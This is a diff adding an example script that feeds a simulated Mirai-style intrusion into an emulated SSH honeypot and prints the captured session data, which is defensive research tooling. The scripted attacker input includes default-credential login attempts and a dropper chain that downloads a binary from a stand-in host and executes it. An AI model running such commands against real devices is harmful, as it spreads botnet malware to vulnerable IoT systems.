@@ -1,0 +1,80 @@
+#!/usr/bin/env python3
+"""Drive one honeypot interactively: a full intrusion transcript.
+
+Shows the medium-interaction honeypot engine end to end: TCP accept on
+port 22, the root-login policy, an emulated shell session running a real
+Mirai-style dropper chain, the recorded events, and the resulting
+per-session summary record.
+
+Run:  python examples/live_honeypot.py
+"""
+
+from repro.honeypot import Honeypot, HoneypotConfig
+from repro.honeypot.shell.resolver import StaticPayloadResolver
+from repro.net.ip import parse_ip
+
+BOT_PAYLOAD = b"\x7fELF\x01\x01\x01" + b"mirai-like-bot" * 512
+
+
+def main() -> None:
+    events = []
+    resolver = StaticPayloadResolver({"http://198.51.100.9/bins/arm7": BOT_PAYLOAD})
+    honeypot = Honeypot(
+        HoneypotConfig(
+            honeypot_id="hp-042",
+            ip=parse_ip("1.0.42.17"),
+            country="SG",
+            asn=64512,
+        ),
+        event_sink=events.append,
+        resolver=resolver,
+    )
+
+    attacker_ip = parse_ip("203.0.113.66")
+    session = honeypot.accept(attacker_ip, 51023, dst_port=22, now=0.0)
+    session.offer_client_version("SSH-2.0-libssh2_1.4.3", 0.4)
+
+    # Credential bruteforce: two failures, then the Mirai default.
+    session.try_login("admin", "admin", 1.0)
+    session.try_login("root", "root", 2.2)      # the one rejected password
+    session.try_login("root", "1234", 3.5)      # accepted
+
+    script = [
+        "enable",
+        "system",
+        "shell",
+        "/bin/busybox ECCHI",
+        "cat /proc/mounts; /bin/busybox PEACH",
+        "cd /tmp; wget http://198.51.100.9/bins/arm7",
+        "chmod 777 arm7; ./arm7; /bin/busybox IHCCE",
+    ]
+    now = 5.0
+    print("=== attacker shell transcript ===")
+    for line in script:
+        result = session.input_line(line, now)
+        for record in result.commands:
+            marker = " " if record.known else "?"
+            print(f"[{marker}] $ {record.text}")
+            if record.output:
+                print("      " + record.output.replace("\n", "\n      "))
+        now += 3.0
+    session.client_disconnect(now)
+
+    summary = honeypot.reap(now + 1.0)[0]
+    print("\n=== session summary (what the farm collector stores) ===")
+    print(f"protocol:        {summary.protocol.value}")
+    print(f"client version:  {summary.client_version}")
+    print(f"login attempts:  {summary.credentials}")
+    print(f"duration:        {summary.duration:.1f}s "
+          f"(closed: {summary.close_reason.value})")
+    print(f"commands:        {len(summary.commands)} recorded")
+    print(f"URIs:            {summary.uris}")
+    print(f"file hashes:     {[h[:16] + '...' for h in summary.file_hashes]}")
+
+    print(f"\n=== {len(events)} structured events emitted ===")
+    for event in events:
+        print(f"  t={event.timestamp:7.1f}  {event.event_type.value}")
+
+
+if __name__ == "__main__":
+    main()
